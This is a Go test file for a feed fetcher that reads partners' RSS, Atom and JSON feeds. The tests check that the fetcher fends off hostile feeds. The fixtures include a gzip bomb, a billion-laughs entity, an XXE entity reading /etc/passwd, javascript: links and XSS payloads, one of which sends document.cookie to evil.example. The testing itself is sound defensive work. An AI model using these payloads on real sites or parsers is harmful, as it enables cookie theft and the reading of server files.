package partners

import (
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/spf13/afero"
)

// now is the time of every test fetch: a fixed day after the samples' items.
var now = time.Date(2012, 7, 5, 12, 0, 0, 0, time.UTC)

// feeds serves the sample files of testdata/ at /NAME, with an ETag and a Last-Modified
// date, answering 304 to a request that sends either back; it counts the bodies it sent.
type feeds struct {
	mu      sync.Mutex
	bodies  map[string]int
	agents  []string
	gzipped int
}

func (f *feeds) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	name := strings.TrimPrefix(r.URL.Path, "/")
	data, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		http.NotFound(w, r)
		return
	}
	f.mu.Lock()
	f.agents = append(f.agents, r.UserAgent())
	f.mu.Unlock()
	etag := fmt.Sprintf(`"%x"`, len(data))
	const modified = "Fri, 29 Jun 2012 16:02:11 GMT"
	w.Header().Set("ETag", etag)
	w.Header().Set("Last-Modified", modified)
	if r.Header.Get("If-None-Match") == etag || r.Header.Get("If-Modified-Since") == modified {
		w.WriteHeader(http.StatusNotModified)
		return
	}
	f.mu.Lock()
	f.bodies[name]++
	f.mu.Unlock()
	if strings.Contains(r.Header.Get("Accept-Encoding"), "gzip") {
		f.mu.Lock()
		f.gzipped++
		f.mu.Unlock()
		w.Header().Set("Content-Encoding", "gzip")
		zw := gzip.NewWriter(w)
		zw.Write(data)
		zw.Close()
		return
	}
	w.Write(data)
}

func project(t *testing.T) (afero.Fs, string) {
	t.Helper()
	return afero.NewOsFs(), t.TempDir()
}

func partner(id, feed string, langs ...string) Partner {
	if len(langs) == 0 {
		langs = []string{"it"}
	}
	return Partner{ID: id, Name: "Partner " + id, Feed: feed, Languages: langs}
}

func fetch(t *testing.T, fsys afero.Fs, dir string, list []Partner, opts Options) []Result {
	t.Helper()
	if opts.Now == nil {
		opts.Now = func() time.Time { return now }
	}
	return Fetch(context.Background(), fsys, dir, list, opts)
}

func load(t *testing.T, fsys afero.Fs, dir, id string) *Snapshot {
	t.Helper()
	s, err := Load(fsys, dir, id)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestFetchReadsTheThreeFormatsAndThenOnlyAsks(t *testing.T) {
	f := &feeds{bodies: map[string]int{}}
	srv := httptest.NewServer(f)
	defer srv.Close()
	fsys, dir := project(t)
	list := []Partner{
		partner("rete", srv.URL+"/rss2.xml"),
		partner("osservatorio", srv.URL+"/atom.xml", "en"),
		partner("progetto", srv.URL+"/feed.json", "it", "fr"),
		partner("vecchio", srv.URL+"/rss091.xml"),
	}
	for _, r := range fetch(t, fsys, dir, list, Options{}) {
		if r.Outcome != Updated {
			t.Errorf("first fetch: %s", r.Line())
		}
	}
	rete := load(t, fsys, dir, "rete")
	want := []Item{
		{ID: "https://rete.example/?p=1042", Title: "Corso di formazione per operatori – seconda edizione", Link: "https://rete.example/notizie/2012/06/corso-operatori/", Date: "2012-06-21T09:30:00Z",
			Summary: "Aperte le iscrizioni alla seconda edizione del corso per operatrici e operatori dei servizi. […] L’articolo Corso di formazione proviene da Rete di esempio .", Lang: "it"},
		{ID: "https://rete.example/notizie/2012/06/prefetture/", Title: "Incontro con le prefetture", Link: "https://rete.example/notizie/2012/06/prefetture/", Date: "2012-06-04T12:00:00Z",
			Summary: "Un incontro & un confronto sui protocolli d'intesa.", Lang: "it"},
		{ID: "https://rete.example/notizie/2012/05/relazione/", Title: "Relazione annuale", Link: "https://rete.example/notizie/2012/05/relazione/", Date: "2012-05-16T08:00:00Z",
			Summary: "La relazione dell'anno passato.", Lang: "it"},
	}
	if len(rete.Items) != len(want) {
		t.Fatalf("rss2: %d items, want %d (the copy merged by link): %+v", len(rete.Items), len(want), rete.Items)
	}
	for i := range want {
		if rete.Items[i] != want[i] {
			t.Errorf("rss2 item %d:\n got %+v\nwant %+v", i, rete.Items[i], want[i])
		}
	}
	if rete.Name != "Partner rete" || rete.ETag == "" || rete.LastModified == "" || rete.Fetched != "2012-07-05T12:00:00Z" {
		t.Errorf("rss2 snapshot header: %+v", rete)
	}

	obs := load(t, fsys, dir, "osservatorio")
	if len(obs.Items) != 2 || obs.Items[0].Title != "Helpline figures for the spring" || obs.Items[0].Link != "https://observatory.example/news/spring-figures" ||
		obs.Items[0].Summary != "The figures of March to May ." && obs.Items[0].Summary != "The figures of March to May." {
		t.Errorf("atom: %+v", obs.Items)
	}
	if r := obs.Items[1]; r.Title != "Report on labour exploitation" || strings.Contains(r.Summary, "alert") || r.Lang != "en" || r.Date != "2012-06-12T06:00:00Z" {
		t.Errorf("atom item: %+v (no tags, no script, the published date)", r)
	}
	prog := load(t, fsys, dir, "progetto")
	if len(prog.Items) != 2 || prog.Items[1].Summary != "Une permanence juridique gratuite, chaque mardi." || prog.Items[1].Lang != "fr" {
		t.Errorf("json feed: %+v (no style, the feed's language)", prog.Items)
	}
	old := load(t, fsys, dir, "vecchio")
	if len(old.Items) != 1 || old.Items[0].Title != "Città e comunità" || old.Items[0].Summary != "Perché la rete è nata." || old.Items[0].DateNote != DateMissing {
		t.Errorf("rss 0.91 in ISO-8859-1: %+v", old.Items)
	}
	if f.gzipped != len(list) {
		t.Errorf("%d of %d feeds were sent compressed: the requests do not accept gzip", f.gzipped, len(list))
	}
	for _, ua := range f.agents {
		if !strings.Contains(ua, "ConTratTo") {
			t.Errorf("User-Agent %q does not name the project", ua)
		}
	}

	before := snapshotFiles(t, dir)
	for _, r := range fetch(t, fsys, dir, list, Options{Now: func() time.Time { return now.Add(time.Hour) }}) {
		if r.Outcome != Unchanged || r.Reason != "304 Not Modified" {
			t.Errorf("second fetch: %s", r.Line())
		}
	}
	for name, n := range f.bodies {
		if n != 1 {
			t.Errorf("%s was sent %d times: the second fetch should be answered 304", name, n)
		}
	}
	if after := snapshotFiles(t, dir); after != before {
		t.Errorf("an unchanged feed rewrote its snapshot")
	}
}

func snapshotFiles(t *testing.T, dir string) string {
	t.Helper()
	names, _ := filepath.Glob(filepath.Join(dir, Dir, "*"))
	var b strings.Builder
	for _, n := range names {
		data, err := os.ReadFile(n)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(&b, "%s\n%s\n", filepath.Base(n), data)
	}
	return b.String()
}

// goodFeed is a small RSS feed with one item, for the previous snapshot of hostile cases.
const goodFeed = `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Buono</title><link>https://buono.example/</link>
<item><title>Notizia buona</title><link>https://buono.example/1</link><pubDate>Tue, 12 Jun 2012 10:00:00 +0000</pubDate></item>
</channel></rss>`

func rss(items string) string {
	return `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>T</title><link>https://t.example/</link>` + items + `</channel></rss>`
}

func TestHostileFeedsKeepThePreviousSnapshot(t *testing.T) {
	hang := make(chan struct{})
	defer close(hang)
	mux := http.NewServeMux()
	serve := func(path, contentType, body string) {
		mux.HandleFunc(path, func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", contentType)
			fmt.Fprint(w, body)
		})
	}
	serve("/good", "application/rss+xml", goodFeed)
	serve("/invalid", "application/rss+xml", `<?xml version="1.0"?><rss version="2.0"><channel><title>Rotto</title><item><title>senza fine`)
	serve("/html", "text/html", `<!doctype html><html><body><p>Not a feed</p></body></html>`)
	mux.HandleFunc("/404", func(w http.ResponseWriter, r *http.Request) { http.NotFound(w, r) })
	mux.HandleFunc("/500", func(w http.ResponseWriter, r *http.Request) { http.Error(w, "boom", http.StatusInternalServerError) })
	mux.HandleFunc("/loop", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "/loop", http.StatusFound) })
	mux.HandleFunc("/away", func(w http.ResponseWriter, r *http.Request) {
		// plain http to another host: refused before any connection is made
		http.Redirect(w, r, "http://feeds.example.invalid/rss", http.StatusMovedPermanently)
	})
	mux.HandleFunc("/hang", func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-hang:
		case <-r.Context().Done():
		}
	})
	mux.HandleFunc("/slow-body", func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte(`<?xml version="1.0"?><rss version="2.0"><channel>`))
		w.(http.Flusher).Flush()
		select {
		case <-hang:
		case <-r.Context().Done():
		}
	})
	huge := func(declare bool) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			const size = 50 << 20
			if declare {
				w.Header().Set("Content-Length", fmt.Sprint(size))
			}
			w.Write([]byte(`<?xml version="1.0"?><rss version="2.0"><channel><title>`))
			chunk := bytes.Repeat([]byte("a"), 32<<10)
			for n := 0; n < size; n += len(chunk) {
				if _, err := w.Write(chunk); err != nil {
					return // the client stopped reading
				}
			}
		}
	}
	mux.HandleFunc("/huge", huge(false))
	mux.HandleFunc("/huge-declared", huge(true))
	mux.HandleFunc("/gzip-bomb", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Encoding", "gzip")
		zw := gzip.NewWriter(w)
		zw.Write([]byte(`<?xml version="1.0"?><rss version="2.0"><channel><title>`))
		zeros := make([]byte, 1<<20)
		for i := 0; i < 50; i++ {
			if _, err := zw.Write(zeros); err != nil {
				return
			}
		}
		zw.Close()
	})
	serve("/only-javascript", "application/rss+xml", rss(`<item><title>Click</title><link>javascript:alert(document.cookie)</link></item><item><title>Data</title><link>data:text/html,&lt;script&gt;</link></item>`))
	mux.HandleFunc("/304-unasked", func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusNotModified) })
	serve("/bad-charset", "application/rss+xml; charset=x-no-such-charset", `<rss version="2.0"><channel><title>T</title><item><title>x</title><link>https://t.example/x</link></item></channel></rss>`)
	srv := httptest.NewServer(mux)
	defer srv.Close()

	cases := []struct{ id, path, reason string }{
		{"invalid-xml", "/invalid", "not a feed gofeed can read"},
		{"html-page", "/html", "not a feed gofeed can read"},
		{"not-found", "/404", "404 Not Found"},
		{"server-error", "/500", "500 Internal Server Error"},
		{"redirect-loop", "/loop", "more than 5 redirects"},
		{"redirect-away", "/away", "redirected to an address that is not read"},
		{"never-answers", "/hang", "no complete answer within 300ms"},
		{"slow-body", "/slow-body", "no complete answer within 300ms"},
		{"huge", "/huge", "more than the 65536 bytes read"},
		{"huge-declared", "/huge-declared", "more than the 65536 read"},
		{"gzip-bomb", "/gzip-bomb", "more than the 65536 bytes read"},
		{"javascript-links", "/only-javascript", "none of its 2 item(s) has an http(s) link"},
		{"unasked-304", "/304-unasked", "304 Not Modified to a request that was not conditional"},
		{"bad-charset", "/bad-charset", `the server names the charset "x-no-such-charset"`},
		{"plain-http", "http://feeds.example.invalid/rss", "plain http"},
		{"not-web", "ftp://feeds.example.invalid/rss", "only https addresses are read"},
	}
	fsys, dir := project(t)
	var list []Partner
	for _, c := range cases {
		list = append(list, partner(c.id, srv.URL+"/good"))
	}
	list = append(list, partner("good-after-all", srv.URL+"/good"))
	for _, r := range fetch(t, fsys, dir, list, Options{}) {
		if r.Outcome != Updated {
			t.Fatalf("previous snapshot: %s", r.Line())
		}
	}
	before := snapshotFiles(t, dir)
	list = nil
	for _, c := range cases {
		feed := c.path
		if strings.HasPrefix(c.path, "/") {
			feed = srv.URL + c.path
		}
		list = append(list, partner(c.id, feed))
	}
	var results []Result
	start := time.Now()
	for _, c := range list {
		// Only the feeds that never finish wait for the time limit: a short one here, so
		// the suite stays fast; the others get the default, so a busy machine fails none.
		opts := Options{MaxBytes: 64 << 10}
		if c.ID == "never-answers" || c.ID == "slow-body" {
			opts.Timeout = 300 * time.Millisecond
		}
		results = append(results, fetch(t, fsys, dir, []Partner{c}, opts)...)
	}
	results = append(results, fetch(t, fsys, dir, []Partner{partner("good-after-all", srv.URL+"/good")}, Options{})...)
	if d := time.Since(start); d > 20*time.Second {
		t.Errorf("the hostile feeds took %s: the time limit does not hold", d)
	}
	for i, c := range cases {
		r := results[i]
		if r.Outcome != Failed || !strings.Contains(r.Reason, c.reason) {
			t.Errorf("%s: %s; want failed: %s", c.id, r.Line(), c.reason)
		}
		if !strings.Contains(r.Line(), "kept the previous snapshot of 2012-07-05T12:00:00Z") {
			t.Errorf("%s: the line does not say the previous snapshot is kept: %s", c.id, r.Line())
		}
	}
	if last := results[len(results)-1]; last.Outcome != Unchanged {
		t.Errorf("a good feed after the hostile ones: %s", last.Line())
	}
	if after := snapshotFiles(t, dir); after != before {
		t.Errorf("a failed feed changed a snapshot")
	}
}

func TestItemsThatAreHostileButReadable(t *testing.T) {
	mux := http.NewServeMux()
	serve := func(path, contentType, body string) {
		mux.HandleFunc(path, func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", contentType)
			fmt.Fprint(w, body)
		})
	}
	serve("/mixed-links", "application/rss+xml", rss(`
<item><title>Bad</title><link>javascript:alert(1)</link></item>
<item><title>Also bad</title><link>https://user:secret@t.example/x</link></item>
<item><title>Good</title><link>https://t.example/good</link><pubDate>Tue, 12 Jun 2012 10:00:00 +0000</pubDate></item>`))
	serve("/scripts", "application/rss+xml", rss(`
<item><title><![CDATA[<b onmouseover="alert(1)">Titolo</b><script>alert("t")</script>]]></title><link>https://t.example/s</link>
<description><![CDATA[<script>document.location='https://evil.example/'+document.cookie</script><style>body{display:none}</style>
<p>Testo <a href="javascript:alert(1)">vero</a> <img src=x onerror=alert(1)>&lt;script&gt;non eseguito&lt;/script&gt;</p><iframe src="https://evil.example/"></iframe>]]></description>
<pubDate>Tue, 12 Jun 2012 10:00:00 +0000</pubDate></item>`))
	serve("/entities", "application/rss+xml", `<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
 <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<rss version="2.0"><channel><title>&lol9;</title><link>https://t.example/</link>
<item><title>Risate &lol9;</title><link>https://t.example/lol</link><description>&xxe;</description><pubDate>Tue, 12 Jun 2012 10:00:00 +0000</pubDate></item>
</channel></rss>`)
	// Declared UTF-8, written in ISO-8859-1: read as Windows-1252, as browsers do.
	serve("/wrong-encoding", "application/rss+xml", rss("<item><title>Citt\xe0 aperta</title><link>https://t.example/w</link><pubDate>Tue, 12 Jun 2012 10:00:00 +0000</pubDate></item>"))
	// No declaration, the charset in the header only.
	serve("/latin1-header", "application/rss+xml; charset=ISO-8859-1", "<rss version=\"2.0\"><channel><title>T</title><link>https://t.example/</link><item><title>Libert\xe0</title><link>https://t.example/l</link></item></channel></rss>")
	srv := httptest.NewServer(mux)
	defer srv.Close()

	fsys, dir := project(t)
	var list []Partner
	for _, id := range []string{"mixed-links", "scripts", "entities", "wrong-encoding", "latin1-header"} {
		list = append(list, partner(id, srv.URL+"/"+id))
	}
	res := fetch(t, fsys, dir, list, Options{})
	for _, r := range res {
		if r.Outcome != Updated {
			t.Errorf("%s", r.Line())
		}
	}
	if r := res[0]; r.Items != 1 || r.Dropped != 2 || !strings.Contains(r.Line(), "2 left out without an http(s) link") {
		t.Errorf("mixed links: %s", r.Line())
	}
	s := load(t, fsys, dir, "scripts").Items[0]
	if s.Title != "Titolo" {
		t.Errorf("title with a script: %q", s.Title)
	}
	// The escaped tags are text, and stay text: every renderer escapes them.
	if s.Summary != "Testo vero <script>non eseguito</script>" {
		t.Errorf("summary with scripts and styles: %q", s.Summary)
	}
	e := load(t, fsys, dir, "entities").Items[0]
	if strings.Contains(e.Title, "lollol") || strings.Contains(e.Summary, "root:") || len(e.Title) > 100 {
		t.Errorf("entities were expanded: %+v", e)
	}
	if w := load(t, fsys, dir, "wrong-encoding").Items[0]; w.Title != "Città aperta" {
		t.Errorf("wrong encoding declared: %q (read as Windows-1252)", w.Title)
	}
	if l := load(t, fsys, dir, "latin1-header").Items[0]; l.Title != "Libertà" {
		t.Errorf("ISO-8859-1 named by the header: %q", l.Title)
	}
}

func TestDatesInTheFormatsFeedsUse(t *testing.T) {
	formats := []struct{ raw, want, note string }{
		{"Tue, 12 Jun 2012 10:00:00 +0000", "2012-06-12T10:00:00Z", ""},
		{"Tue, 12 Jun 2012 10:00:00 GMT", "2012-06-12T10:00:00Z", ""},
		{"Tue, 12 Jun 2012 12:00:00 +0200", "2012-06-12T10:00:00Z", ""},
		{"Tue, 12 Jun 2012 06:00:00 EDT", "2012-06-12T10:00:00Z", ""},
		{"12 Jun 2012 10:00:00 +0000", "2012-06-12T10:00:00Z", ""},
		{"Tue, 12 Jun 12 10:00:00 +0000", "2012-06-12T10:00:00Z", ""},
		{"Tuesday, 12 June 2012 10:00:00 +0000", "2012-06-12T10:00:00Z", ""},
		{"2012-06-12T10:00:00Z", "2012-06-12T10:00:00Z", ""},
		{"2012-06-12T12:00:00+02:00", "2012-06-12T10:00:00Z", ""},
		{"2012-06-12T10:00:00.123456Z", "2012-06-12T10:00:00Z", ""},
		{"2012-06-12 10:00:00", "2012-06-12T10:00:00Z", ""},
		{"2012-06-12", "2012-06-12T00:00:00Z", ""},
		{"Tue, 12 Jun 2012 10:00:00", "2012-06-12T10:00:00Z", ""},
		{"next Tuesday", "", DateMissing},
		{"", "", DateMissing},
		{"Sat, 12 Jun 2032 10:00:00 +0000", "2032-06-12T10:00:00Z", DateFuture},
		{"Fri, 31 Dec 1999 23:00:00 +0000", "1999-12-31T23:00:00Z", DateTooOld},
		{"Thu, 01 Jan 1970 00:00:00 +0000", "1970-01-01T00:00:00Z", DateTooOld},
	}
	var items strings.Builder
	for i, f := range formats {
		fmt.Fprintf(&items, "<item><title>n%d</title><link>https://t.example/%d</link><pubDate>%s</pubDate></item>\n", i, i, f.raw)
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, rss(items.String())) }))
	defer srv.Close()
	fsys, dir := project(t)
	if r := fetch(t, fsys, dir, []Partner{partner("dates", srv.URL)}, Options{})[0]; r.Outcome != Updated {
		t.Fatal(r.Line())
	}
	got := map[string]Item{}
	for _, it := range load(t, fsys, dir, "dates").Items {
		got[it.Link] = it
	}
	for i, f := range formats {
		it := got[fmt.Sprintf("https://t.example/%d", i)]
		if it.Date != f.want || it.DateNote != f.note {
			t.Errorf("pubDate %q: date %q (%q), want %q (%q)", f.raw, it.Date, it.DateNote, f.want, f.note)
		}
		if it.Trusted() != (f.note == "") {
			t.Errorf("pubDate %q: trusted = %v", f.raw, it.Trusted())
		}
	}
}

func TestAnETagAloneOrALastModifiedAlone(t *testing.T) {
	bodies := 0
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/etag":
			w.Header().Set("ETag", `W/"v1"`)
			if r.Header.Get("If-None-Match") == `W/"v1"` {
				w.WriteHeader(http.StatusNotModified)
				return
			}
		case "/modified":
			w.Header().Set("Last-Modified", "Tue, 12 Jun 2012 10:00:00 GMT")
			if r.Header.Get("If-Modified-Since") == "Tue, 12 Jun 2012 10:00:00 GMT" {
				w.WriteHeader(http.StatusNotModified)
				return
			}
		}
		bodies++
		fmt.Fprint(w, goodFeed)
	}))
	defer srv.Close()
	fsys, dir := project(t)
	list := []Partner{partner("etag", srv.URL+"/etag"), partner("modified", srv.URL+"/modified"), partner("neither", srv.URL+"/neither")}
	fetch(t, fsys, dir, list, Options{})
	res := fetch(t, fsys, dir, list, Options{})
	for i, want := range []string{"304 Not Modified", "304 Not Modified", "the same items as before"} {
		if res[i].Outcome != Unchanged || res[i].Reason != want {
			t.Errorf("%s; want unchanged (%s)", res[i].Line(), want)
		}
	}
	if bodies != 4 {
		t.Errorf("%d bodies sent, want 4 (twice for the feed without validators)", bodies)
	}
}

func TestADamagedSnapshotIsReadAgain(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/missing" {
			http.NotFound(w, r)
			return
		}
		fmt.Fprint(w, goodFeed)
	}))
	defer srv.Close()
	fsys, dir := project(t)
	os.MkdirAll(filepath.Join(dir, Dir), 0o755)
	os.WriteFile(filepath.Join(dir, Path("p")), []byte("{ not json"), 0o644)
	if _, err := Load(fsys, dir, "p"); err == nil || !strings.Contains(err.Error(), "data/partners/p.json:1:") {
		t.Errorf("a damaged snapshot: %v", err)
	}
	if r := fetch(t, fsys, dir, []Partner{partner("p", srv.URL+"/missing")}, Options{})[0]; !strings.Contains(r.Line(), "(the previous snapshot is damaged, left as it is: data/partners/p.json:1:") {
		t.Errorf("a failed fetch over a damaged snapshot: %s", r.Line())
	}
	if r := fetch(t, fsys, dir, []Partner{partner("p", srv.URL)}, Options{})[0]; r.Outcome != Updated {
		t.Error(r.Line())
	}
	load(t, fsys, dir, "p")
}

func TestHTTPSFeedsOverTLSAndNeverDownToPlainHTTP(t *testing.T) {
	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/down" {
			http.Redirect(w, r, "http://127.0.0.1:1/feed", http.StatusFound)
			return
		}
		fmt.Fprint(w, goodFeed)
	}))
	defer srv.Close()
	fsys, dir := project(t)
	res := fetch(t, fsys, dir, []Partner{partner("tls", srv.URL+"/feed"), partner("down", srv.URL+"/down")}, Options{Transport: srv.Client().Transport})
	if res[0].Outcome != Updated {
		t.Errorf("an https feed: %s", res[0].Line())
	}
	if res[1].Outcome != Failed || !strings.Contains(res[1].Reason, "redirected from https to http: not followed") {
		t.Errorf("an https feed redirected to plain http: %s", res[1].Line())
	}
}
